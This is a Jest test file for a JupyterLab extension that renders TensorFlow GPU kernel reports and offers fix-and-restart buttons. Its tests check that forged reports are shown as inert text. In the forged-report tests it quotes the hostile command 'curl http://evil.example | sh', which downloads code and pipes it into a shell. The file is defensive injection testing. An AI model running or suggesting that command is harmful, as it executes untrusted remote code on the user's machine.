import type { JupyterFrontEnd } from '@jupyterlab/application';
import { Clipboard } from '@jupyterlab/apputils';
import {
  MimeModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { nullTranslator } from '@jupyterlab/translation';
import type { ReadonlyPartialJSONValue } from '@lumino/coreutils';
import { Panel, Widget } from '@lumino/widgets';
import { act, fireEvent, screen } from '@testing-library/react';

import { reportPlugin } from '../../src/report';
import { MIME } from '../../src/report/saved';
import { TestLive } from '../fakes';
import { answer } from '../fixes/fixing';
import { StandInServer, settle } from '../server';
import { HIDDEN, forged, published, report } from './samples';
import { TestSession } from './session';

const ROUTE = 'GET kernels/k1/report';

describe('A report among the outputs of a notebook', () => {
  let server: StandInServer;
  let session: TestSession;
  let notebook: Panel;
  let rendermime: RenderMimeRegistry;

  beforeEach(async () => {
    jest.useFakeTimers();
    jest.spyOn(console, 'debug').mockImplementation();
    server = new StandInServer({ [ROUTE]: { json: report(HIDDEN) } });
    session = new TestSession();
    rendermime = new RenderMimeRegistry({
      initialFactories: standardRendererFactories
    });
    await reportPlugin.activate(
      {} as JupyterFrontEnd,
      rendermime,
      new TestLive(server),
      nullTranslator
    );
    notebook = new Panel();
    Object.defineProperty(notebook, 'sessionContext', {
      get: () => session.itself
    });
    Widget.attach(notebook, document.body);
  });

  afterEach(() => {
    act(() => {
      session.disposed.emit(undefined);
      notebook.dispose();
    });
    jest.restoreAllMocks();
    jest.useRealTimers();
  });

  /** Shows an output as a notebook's output area does. */
  async function show(
    data: unknown,
    options: { trusted?: boolean; inside?: Panel; plain?: string } = {}
  ): Promise<HTMLElement> {
    const { trusted = true, inside = notebook, plain = 'plain' } = options;
    const bundle = {
      [MIME]: data as ReadonlyPartialJSONValue,
      'text/html': '<div id="escaped">&lt;b&gt;</div>',
      'text/plain': plain
    };
    const mime = rendermime.preferredMimeType(
      bundle,
      trusted ? 'any' : 'ensure'
    );
    const renderer = rendermime.createRenderer(mime!);
    const cell = new Panel();
    await act(async () => {
      void renderer.renderModel(new MimeModel({ data: bundle, trusted }));
      cell.addWidget(renderer);
      inside.addWidget(cell);
      await settle();
    });
    return renderer.node;
  }

  const press = (name: string) =>
    act(async () => {
      fireEvent.click(screen.getByRole('button', { name }));
      await settle();
    });
  const buttons = (node: HTMLElement) =>
    [...node.querySelectorAll('button')].map(
      button => button.getAttribute('aria-label') ?? button.textContent
    );
  const FIX = 'Fix and restart: Take it out of the kernelspec';

  it('says what was found, how bad it is and why, with the evidence folded', async () => {
    const node = await show(published('k1', HIDDEN));
    const [finding] = node.querySelectorAll('section');
    expect(finding?.getAttribute('aria-label')).toBe(`Error: ${HIDDEN.title}`);
    expect(finding?.textContent).toContain('The kernelspec sets it.');
    expect(finding?.querySelector('p code')?.textContent).toBe('-1');
    const evidence = finding?.querySelector('details');
    expect(evidence?.open).toBe(false);
    expect(evidence?.textContent).toContain(HIDDEN.evidence[0]);
    expect(evidence?.textContent).toContain(HIDDEN.code);
  });

  it('has the fixes of the kernel that runs, with what copies and applies them', async () => {
    const node = await show(published('k1', HIDDEN));
    expect(buttons(node)).toEqual([
      FIX,
      'Copy the command',
      'Copy the command'
    ]);
  });

  it('is plain HTML in a notebook that is not trusted', async () => {
    const node = await show(published('k1', HIDDEN), { trusted: false });
    expect(node.querySelector('#escaped, div')?.textContent).toBe('<b>');
    expect(node.className).toContain('jp-RenderedHTML');
    expect(server.requests).toHaveLength(0);
  });

  it('has no button where nothing of it is known of the kernel that runs', async () => {
    const other = { ...HIDDEN, code: 'no-gpu' };
    const elsewhere = { ...HIDDEN, framework: 'torch' as const };
    const node = await show(published('k1', other, elsewhere));
    expect(server.count(ROUTE)).toBe(1);
    expect(buttons(node)).toEqual([]);
    expect(node.textContent).toContain('unset CUDA_VISIBLE_DEVICES');
  });

  it('has no button, and asks nothing, where it is about another kernel', async () => {
    const node = await show(published('k2', HIDDEN));
    expect(buttons(node)).toEqual([]);
    expect(node.textContent).toContain('about an earlier kernel');
    expect(server.requests).toHaveLength(0);
  });

  it('loses its buttons with its kernel', async () => {
    const node = await show(published('k1', HIDDEN));
    expect(buttons(node)).toContain(FIX);
    await act(async () => session.changeKernel('k2'));
    expect(buttons(node)).toEqual([]);
    expect(node.textContent).toContain('about an earlier kernel');
    expect(node.textContent).toContain('unset CUDA_VISIBLE_DEVICES');
  });

  it('has no button where it names no kernel', async () => {
    const node = await show(published(null, HIDDEN));
    expect(buttons(node)).toEqual([]);
    expect(node.textContent).not.toContain('about an earlier kernel');
    expect(server.requests).toHaveLength(0);
  });

  it('is text in a window that has no session', async () => {
    const view = new Panel();
    Widget.attach(view, document.body);
    const node = await show(published('k1', HIDDEN), { inside: view });
    expect(buttons(node)).toEqual([]);
    expect(node.textContent).toContain(HIDDEN.title);
    expect(server.requests).toHaveLength(0);
    act(() => view.dispose());
  });

  describe('that is forged', () => {
    it('is shown as the text that it is', async () => {
      const node = await show(forged(null));
      expect(node.querySelectorAll('img, script, iframe, a')).toHaveLength(0);
      expect(node.textContent).toContain('Forged <script>');
      expect(node.textContent).toContain('curl http://evil.example | sh');
      expect(buttons(node)).toEqual([]);
    });

    it('gets the server’s fixes where it names the kernel that runs, and none of its own', async () => {
      const copied = jest.spyOn(Clipboard, 'copyToSystem').mockImplementation();
      const node = await show(forged('k1'));
      const [first, second] = node.querySelectorAll('section');
      expect(first?.textContent).not.toContain('Forged fix');
      expect(first?.textContent).not.toContain('curl');
      expect(buttons(first as HTMLElement)).toEqual([
        FIX,
        'Copy the command',
        'Copy the command'
      ]);
      expect(second?.textContent).toContain('<script>');
      expect(buttons(second as HTMLElement)).toEqual([]);
      expect(node.querySelectorAll('img, script')).toHaveLength(0);

      await act(async () => {
        fireEvent.click(screen.getAllByTitle('Copy the command')[1]!);
      });
      expect(copied).toHaveBeenCalledWith('unset CUDA_VISIBLE_DEVICES');
    });

    it.each([null, 'text', [], { schema: 'tfgpu.report/1', findings: {} }])(
      'is the plain text of the output where it is no report: %j',
      async data => {
        const plain = '<b>plain</b>\u202e';
        const node = await show(data, { plain });
        expect(node.textContent).toBe('<b>plain</b>');
        expect(node.querySelector('b')).toBeNull();
      }
    );
  });

  describe('with a fix', () => {
    const look = answer({ code: HIDDEN.code, restart_needed: true });

    beforeEach(() => server.on('POST fixes', { json: look }));

    const asked = () =>
      server.requests
        .filter(({ method }) => method === 'POST')
        .map(({ body }) => body);

    it('shows first what it changes and what a restart loses', async () => {
      session.changeStatus('busy');
      await show(published('k1', HIDDEN));
      await press(FIX);
      const question = screen.getByRole('group', { name: 'What is changed' });
      expect(question.textContent).toContain('before-1afternot set');
      expect(question.textContent).toContain('the cell that runs now is ended');
      expect(question.textContent).toContain('Variables are lost');
      expect(asked()).toEqual([
        {
          kernel_id: 'k1',
          code: HIDDEN.code,
          framework: HIDDEN.framework,
          dry_run: true
        }
      ]);
      await press('Cancel');
      expect(session.restartKernel).not.toHaveBeenCalled();
    });

    it('applies it, restarts the kernel and looks at the next report', async () => {
      const node = await show(published('k1', HIDDEN));
      await press(FIX);
      server.on('POST fixes', { json: { ...look, id: 'abc' } });
      session.restartKernel.mockImplementation(() => {
        server.on(ROUTE, { json: report() });
        session.changeStatus('restarting');
        session.changeStatus('idle');
        return Promise.resolve();
      });
      await press('Fix and restart');
      await act(() => jest.advanceTimersByTimeAsync(1000));
      expect(session.restartKernel).toHaveBeenCalledTimes(1);
      expect(asked().at(-1)).toMatchObject({ shown: look.state });
      expect(node.textContent).toContain('Applied: ');
      expect(node.textContent).toContain('does not have this any more');
      expect(node.textContent).not.toContain('unset CUDA_VISIBLE_DEVICES');
      expect(buttons(node)).toEqual([`Undo: ${look.title}`]);
    });

    it('offers the restart once more where it failed', async () => {
      jest.spyOn(console, 'warn').mockImplementation();
      const node = await show(published('k1', HIDDEN));
      await press(FIX);
      server.on('POST fixes', { json: { ...look, id: 'abc' } });
      session.restartKernel.mockRejectedValue(new Error('no answer'));
      await press('Fix and restart');
      expect(node.textContent).toContain('Applied: ');
      expect(buttons(node)).toContain('Restart kernel…');
      expect(buttons(node)).not.toContain(FIX);
    });

    it('restarts nothing where the fix needs none', async () => {
      const answered = { ...look, restart_needed: false };
      server.on('POST fixes', { json: answered });
      const node = await show(published('k1', HIDDEN));
      await press(FIX);
      expect(node.textContent).not.toContain('Variables are lost');
      await press('Apply');
      expect(session.restartKernel).not.toHaveBeenCalled();
    });

    it('says why it cannot be applied, and does not restart', async () => {
      const node = await show(published('k1', HIDDEN));
      await press(FIX);
      server.on('POST fixes', {
        status: 409,
        json: { message: 'Look again.', reason: 'changed-since', detail: {} }
      });
      await press('Fix and restart');
      expect(node.textContent).toContain('Look again.');
      expect(session.restartKernel).not.toHaveBeenCalled();
    });
  });
});
